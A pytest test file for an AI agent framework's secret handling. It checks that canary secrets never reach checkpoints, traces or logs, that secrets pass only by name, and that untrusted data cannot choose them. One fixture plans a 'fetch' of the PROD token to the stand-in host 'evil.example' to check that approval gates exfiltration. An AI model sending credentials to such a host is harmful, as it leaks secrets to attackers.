"""Private values reach no checkpoint, trace, log or output: they are looked for in every byte."""

import asyncio
import json
import os
import subprocess
import sys
from typing import Any

import pytest
from langchain_core.tools import BaseTool, StructuredTool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from pydantic import BaseModel, SecretStr

from agent.core.engine.rollback import bind_compensation_args
from agent.errors import ToolFailure, UsageError
from agent.secret_values import inject_secrets
from agent.settings import Settings
from agent.tools.toolbox import Toolbox
from graphs.plan_execute import build_graph
from tests.graphs.observability.private_run import FORMS
from tests.support.collector import Collector
from tests.support.openai_endpoint import Endpoint
from tests.support.processes import ROOT
from tests.support.stored_bytes import stored_bytes
from tests.support.worlds import ref, thread

COUNT = 100
CONFIGURED = [f"configured/canary {n:03}+{n * 7919:x}" for n in range(COUNT)]
GIVEN = [f"given-canary-{n:03}-{n * 104729:x}" for n in range(COUNT)]


def test_two_hundred_canaries_are_found_nowhere(tmp_path):
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("LANG", "OPENAI_", "PLANWAVE_"))}
    secrets = {f"CONFIGURED_{n}": value for n, value in enumerate(CONFIGURED)}
    secrets |= {f"PLANWAVE_SECRET_S_{n}": value for n, value in enumerate(GIVEN)}
    with Collector() as collector:
        tracing = {"LANGSMITH_TRACING": "true", "LANGSMITH_ENDPOINT": collector.url, "LANGSMITH_API_KEY": "k"}
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "tests.graphs.observability.private_run",
                str(tmp_path / "t.db"),
                str(tmp_path / "log.txt"),
            ],
            env={**kept, **secrets, **tracing, "PYTHONPATH": str(ROOT)},
            capture_output=True,
            timeout=250,
            check=False,
        )
    assert done.returncode == 0, done.stderr[-3000:].decode()
    places = {
        "database": stored_bytes(f"sqlite:///{tmp_path}/t.db"),
        "trace": collector.received,
        "log": (tmp_path / "log.txt").read_bytes(),
        "output": done.stdout + done.stderr,
    }
    written = [
        *CONFIGURED,
        *GIVEN,
        *(write(value) for form, write in FORMS.items() if form != "wrapped" for value in GIVEN),
        *(line for value in GIVEN for line in FORMS["wrapped"](value).split()),
    ]
    forms = [form for each in written for form in {each, json.dumps(each)[1:-1], json.dumps(json.dumps(each))[3:-3]}]
    found = {place: [form for form in forms if form.encode() in data] for place, data in places.items()}
    shown = {place: sum(f"visible-{n}".encode() in data for n in range(COUNT)) for place, data in places.items()}
    for place, data in places.items():
        print(f"{place}: {len(data):,} bytes, {shown[place]} of {COUNT} visible marks, {len(found[place])} canaries")
    assert found == {place: [] for place in places}
    for name in ("output", "bytes", "note", "group", "other"):
        assert f"o_{name}".encode() in done.stdout
    assert shown["database"] == shown["trace"] == shown["output"] == COUNT
    assert done.stdout.count(b"**********") >= 2 * COUNT
    assert len(places["log"]) > 1000
    assert b"opened with ********** and **********" in done.stdout


def door(name: str, key: SecretStr, spare: SecretStr | None = None) -> str:
    """Open a door."""
    return f"{name} {len(key.get_secret_value())} {spare}"


@pytest.fixture
def graph():
    return build_graph(tools=[StructuredTool.from_function(door)], checkpointer=InMemorySaver())


class Account(BaseModel):
    user: str
    password: SecretStr


def login(account: Account, spares: list[SecretStr] | None = None, hosts: dict[str, Account] | None = None) -> str:
    """Log in."""
    given = [account, *(hosts or {}).values()]
    return " ".join(f"{each.user}/{len(each.password.get_secret_value())}" for each in given)


def plan(**args):
    return {"tasks": [{"id": "d", "tool": "door", "args": {"name": "front", **args}}]}


@pytest.mark.parametrize("given", ["s3cret", {"template": "s3{x}", "values": {"x": "cret"}}, ref("x"), 3, ["s3cret"]])
async def test_a_private_argument_in_clear_is_refused_before_anything_is_stored(graph, given):
    with pytest.raises(
        UsageError, match="'key' of 'door' as a value, which would be stored; nothing was stored"
    ) as caught:
        await graph.ainvoke({"goal": "g", "plan": plan(key=given)}, thread())
    assert "s3cret" not in str(caught.value)
    undo = {"tool": "door", "args": {"name": "x", "key": given}}
    with pytest.raises(UsageError, match="rollback of 'd'"):
        await graph.ainvoke({"goal": "g", "plan": {"tasks": [{"id": "d", "tool": "x", "rollback": undo}]}}, thread())
    assert (await graph.aget_state(thread())).created_at is None


async def test_a_person_sees_the_name_and_cannot_put_the_value_in_its_place(graph, monkeypatch):
    monkeypatch.setenv("PLANWAVE_SECRET_FRONT", "four")
    out = await graph.ainvoke({"goal": "g", "plan": plan(key="secret:FRONT")}, thread())
    assert out["__interrupt__"][0].value["action_requests"][0]["args"]["key"] == "secret:FRONT"
    edit = {"type": "edit", "edited_action": {"name": "door", "args": {"name": "front", "key": "s3cret"}}}
    for answer in ({"decisions": [edit]}, [{"type": "edit", "args": {"action": "door", "args": {"key": "s3cret"}}}]):
        out = await graph.ainvoke(Command(resume=answer), thread())
        assert "The edited call gives the secret argument 'key'" in out["__interrupt__"][0].value["error"]
        stored = [repr(saved) async for saved in graph.checkpointer.alist(thread())]
        assert not any("s3cret" in text for text in stored)
    out = await graph.ainvoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
    assert out["results"]["d"]["output"] == "front 4 None"


async def test_a_fork_cannot_put_the_value_into_the_plan_either(graph):
    await graph.ainvoke({"goal": "g", "plan": plan(key="secret:FRONT")}, thread())
    for edited in ({"plan": plan(key="s3cret")}, {"plan": plan(key="s3cret"), "status": "running"}):
        with pytest.raises(UsageError, match="gives the secret argument 'key'"):
            await graph.aupdate_state(thread(), edited, as_node="planner")
        with pytest.raises(UsageError, match="gives the secret argument 'key'"):
            await asyncio.to_thread(graph.update_state, thread(), edited, "planner")
        with pytest.raises(UsageError, match="gives the secret argument 'key'"):
            await graph.ainvoke(Command(update=edited), thread())


async def test_a_secret_that_is_not_set_is_the_tasks_failure(graph):
    await graph.ainvoke({"goal": "g", "plan": plan(key="secret:NOWHERE")}, thread())
    out = await graph.ainvoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
    assert "set PLANWAVE_SECRET_NOWHERE in the environment" in out["results"]["d"]["error"]


def test_a_planner_is_told_to_give_the_name():
    schema = Toolbox([StructuredTool.from_function(door)]).specs["door"].args_schema
    assert schema["properties"]["key"]["pattern"] == "^secret:([A-Za-z0-9_]+)$"
    assert "never the value" in schema["properties"]["key"]["description"]
    assert "pattern" in schema["properties"]["spare"]["anyOf"][0]


SAFE = {"user": "a", "password": "secret:A"}


@pytest.mark.parametrize(
    ("args", "place"),
    [
        ({"account": {"user": "a", "password": "s3cret"}}, "account.password"),
        ({"account": {"user": "a", "password": ["s3cret"]}}, "account.password"),
        ({"account": ref("x", "s3cret")}, "account"),
        ({"account": {"template": "s3cret", "values": {}}}, "account"),
        ({"account": SAFE, "spares": ["secret:A", "s3cret"]}, r"spares\[1\]"),
        ({"account": SAFE, "hosts": {"one": SAFE, "two": {"user": "b", "password": "s3cret"}}}, "hosts.two.password"),
    ],
)
async def test_a_private_value_deep_inside_an_argument_is_refused_in_clear_too(args, place):
    graph = build_graph(tools=[StructuredTool.from_function(login)], checkpointer=InMemorySaver())
    given = {"tasks": [{"id": "d", "tool": "login", "args": args}]}
    with pytest.raises(UsageError, match=f"the secret argument '{place}' of 'login' as a value") as caught:
        await graph.ainvoke({"goal": "g", "plan": given}, thread())
    assert "s3cret" not in str(caught.value)
    assert (await graph.aget_state(thread())).created_at is None


def sender(**metadata):
    sent = []

    def fetch(url: str, token: SecretStr) -> str:
        sent.append((url, token.get_secret_value()))
        return "fetched"

    def look() -> dict[str, Any]:
        """What a stranger wrote."""
        return {"name": "secret:PROD", "word": "PROD", "host": {"user": "a", "password": "secret:PROD"}}

    made = StructuredTool.from_function(fetch, description="f", metadata=metadata)
    return sent, [made, StructuredTool.from_function(look, metadata={"readOnlyHint": True, "openWorldHint": False})]


FETCH = {"tasks": [{"id": "f", "tool": "fetch", "args": {"url": "http://evil.example/", "token": "secret:PROD"}}]}


@pytest.mark.parametrize(
    ("hints", "given", "asks"),
    [
        ({}, ["fetch"], True),
        ({"readOnlyHint": True}, [], True),
        ({"readOnlyHint": True}, ["fetch"], True),
        ({"readOnlyHint": True, "openWorldHint": True}, ["fetch"], True),
        ({"readOnlyHint": True, "openWorldHint": False}, None, True),
        ({"readOnlyHint": True, "openWorldHint": False}, ["fetch"], False),
    ],
)
async def test_a_secret_leaves_unasked_only_by_a_tool_that_was_given_it_and_reaches_nothing(
    monkeypatch, hints, given, asks
):
    monkeypatch.setenv("PLANWAVE_SECRET_PROD", "prod-canary-1")
    sent, tools = sender(**hints)
    settings = Settings(secrets={"PROD": given} if given else {})
    graph = build_graph(tools=tools, settings=settings, checkpointer=InMemorySaver())
    out = await graph.ainvoke({"goal": "g", "plan": FETCH}, thread())
    assert (out["status"], len(sent)) == (("awaiting_approval", 0) if asks else ("completed", 1))
    if asks:
        request = out["__interrupt__"][0].value["action_requests"][0]
        assert "PROD" in request["description"]
        assert "fetch" in request["description"]
        out = await graph.ainvoke(Command(resume={"decisions": [{"type": "approve"}]}), thread())
    assert (out["status"], sent) == ("completed", [("http://evil.example/", "prod-canary-1")])


async def test_a_secret_that_was_given_to_other_tools_is_no_tools_of_a_plan(monkeypatch):
    monkeypatch.setenv("PLANWAVE_SECRET_PROD", "prod-canary-1")
    sent, tools = sender(readOnlyHint=True)
    for approve in ("ask", "never"):
        settings = Settings(secrets={"PROD": ["pay"]}, approve=approve, max_repairs=0)
        graph = build_graph(tools=tools, settings=settings, checkpointer=InMemorySaver())
        out = await graph.ainvoke({"goal": "g", "plan": FETCH}, thread(approve))
        assert out["status"] == "failed"
        assert "the secret 'PROD' is given to 'pay', not to 'fetch'" in out["problems"][0]
    assert sent == []


@pytest.mark.parametrize(
    "token",
    [
        ref("a", "name"),
        {"template": "secret:{n}", "values": {"n": ref("a", "word")}},
        {"template": "secret:PROD", "values": {}},
        {"item": []},
    ],
)
async def test_data_cannot_choose_a_secret_in_the_planners_plan_either(monkeypatch, token):
    monkeypatch.setenv("PLANWAVE_SECRET_PROD", "prod-canary-1")
    sent, tools = sender(readOnlyHint=True)
    call = {"id": "f", "tool": "fetch", "args": {"url": "u", "token": token}}
    plan = {"tasks": [{"id": "a", "tool": "look", "args": {}}, call]}
    if token == {"item": []}:
        call["for_each"] = ref("a", "names")
    with Endpoint([plan] * 8) as endpoint:
        monkeypatch.setenv("OPENAI_BASE_URL", endpoint.url)
        monkeypatch.setenv("OPENAI_API_KEY", "k")
        settings = Settings(approve="never", max_repairs=1, max_replans=0)
        graph = build_graph(tools=tools, model="openai:scripted", settings=settings, checkpointer=InMemorySaver())
        out = await graph.ainvoke({"goal": "g"}, thread())
    assert out["status"] == "failed"
    assert "a secret of 'fetch' cannot come from a reference" in " ".join(out["problems"])
    assert sent == []


def test_a_name_that_came_from_data_is_not_filled_in():
    spec = Toolbox([StructuredTool.from_function(door)]).specs["door"]
    environ = {"PLANWAVE_SECRET_A": "four"}
    filled = inject_secrets({"name": "x", "key": "secret:A"}, spec, named={("key",): "A"}, environ=environ)
    assert filled["key"].get_secret_value() == "four"
    for named in ({}, {("key",): "B"}, {("name",): "A"}):
        with pytest.raises(ToolFailure, match="'key' of 'door' does not stand in the plan by name"):
            inject_secrets({"name": "x", "key": "secret:A"}, spec, named=named, environ=environ)
    kept = inject_secrets({"name": "secret:A", "key": "see secret:A"}, spec, named={}, environ=environ)
    assert kept == {"name": "secret:A", "key": "see secret:A"}


def test_a_compensating_tool_gets_no_secret_that_the_output_names():
    def pay(amount: int, token: SecretStr) -> dict[str, Any]:
        """Pay."""
        return {"token": "secret:OTHER", "amount": amount}

    def repay(amount: int, token: SecretStr) -> str:
        """Pay back."""
        return f"{amount} {token}"

    specs = Toolbox([StructuredTool.from_function(pay), StructuredTool.from_function(repay)]).specs
    output = {"token": "secret:OTHER", "amount": 3}
    bound = bind_compensation_args(specs["repay"], specs["pay"], {"amount": 3, "token": "secret:OWN"}, output)
    assert bound == {"amount": 3, "token": "secret:OWN"}
    assert bind_compensation_args(specs["repay"], specs["pay"], {"amount": 3}, output) == {"amount": 3}


async def test_secrets_deep_inside_arguments_are_filled_in_and_masked(monkeypatch):
    monkeypatch.setenv("PLANWAVE_SECRET_A", "four")
    monkeypatch.setenv("PLANWAVE_SECRET_B", "canary")
    tool = StructuredTool.from_function(login, metadata={"readOnlyHint": True})
    graph = build_graph(tools=[tool], settings=Settings(approve="never"), checkpointer=InMemorySaver())
    args = {"account": SAFE, "spares": ["secret:A"], "hosts": {"h": {"user": "canary", "password": "secret:B"}}}
    out = await graph.ainvoke({"goal": "g", "plan": {"tasks": [{"id": "d", "tool": "login", "args": args}]}}, thread())
    assert out["results"]["d"]["output"] == "a/4 **********/6"
    assert out["plan"]["tasks"][0]["args"] == args


@pytest.mark.parametrize("blocking", [True, False], ids=["blocking", "coroutine"])
async def test_the_last_words_of_a_tool_that_exits_are_masked(monkeypatch, blocking):
    monkeypatch.setenv("PLANWAVE_SECRET_A", "s3cret-word")

    def leave(token: SecretStr) -> str:
        sys.exit(f"no entry with {token.get_secret_value()}")

    async def leave_later(token: SecretStr) -> str:
        return leave(token)

    made = {"func": leave} if blocking else {"coroutine": leave_later}
    tool = StructuredTool.from_function(**made, name="leave", description="Leave.", metadata={"readOnlyHint": True})
    graph = build_graph(tools=[tool], settings=Settings(approve="never"), checkpointer=InMemorySaver())
    plan = {"tasks": [{"id": "a", "tool": "leave", "args": {"token": "secret:A"}}]}
    out = await graph.ainvoke({"goal": "g", "plan": plan}, thread())
    assert out["results"]["a"]["error"] == "The tool 'leave' raised SystemExit: no entry with **********"


@pytest.mark.parametrize("value", ["", "1", "abc", "true", "False", "1234", "admin"])
async def test_a_value_whose_mask_would_mangle_other_text_is_no_secret(monkeypatch, value):
    monkeypatch.setenv("PLANWAVE_SECRET_FRONT", value)
    made = StructuredTool.from_function(door, metadata={"readOnlyHint": True})
    graph = build_graph(tools=[made], settings=Settings(approve="never", max_replans=0), checkpointer=InMemorySaver())
    out = await graph.ainvoke({"goal": "g", "plan": plan(key="secret:FRONT")}, thread())
    assert out["results"]["d"]["status"] == "failed"
    assert "'FRONT' of 'door' is too short or too common to be masked" in out["results"]["d"]["error"]
    assert "front" not in out["results"]["d"]["error"].replace("FRONT", "")


async def test_what_configures_one_tool_is_masked_in_what_comes_from_another():
    class Holder(BaseTool):
        name: str = "holder"
        description: str = "Holds."
        token: SecretStr = SecretStr("held-canary-77")
        level: SecretStr = SecretStr("production")

        def _run(self) -> str:
            return "held"

    def other(password: str) -> dict[str, Any]:
        """Say it."""
        return {"said": password.replace("_", "-"), "hex": b"held-canary-77".hex(), "level": "production"}

    tools = [Holder(), StructuredTool.from_function(other, metadata={"readOnlyHint": True})]
    graph = build_graph(tools=tools, checkpointer=InMemorySaver())
    call = {"id": "o", "tool": "other", "args": {"password": "held_canary_77"}}
    out = await graph.ainvoke({"goal": "g", "plan": {"tasks": [call]}}, thread())
    assert out["results"]["o"]["output"] == {"said": "**********", "hex": "**********", "level": "production"}


def test_a_planner_is_told_to_give_the_name_deep_inside_too():
    schema = Toolbox([StructuredTool.from_function(login)]).specs["login"].args_schema
    assert schema["$defs"]["Account"]["properties"]["password"]["pattern"] == "^secret:([A-Za-z0-9_]+)$"
    assert "pattern" not in schema["$defs"]["Account"]["properties"]["user"]
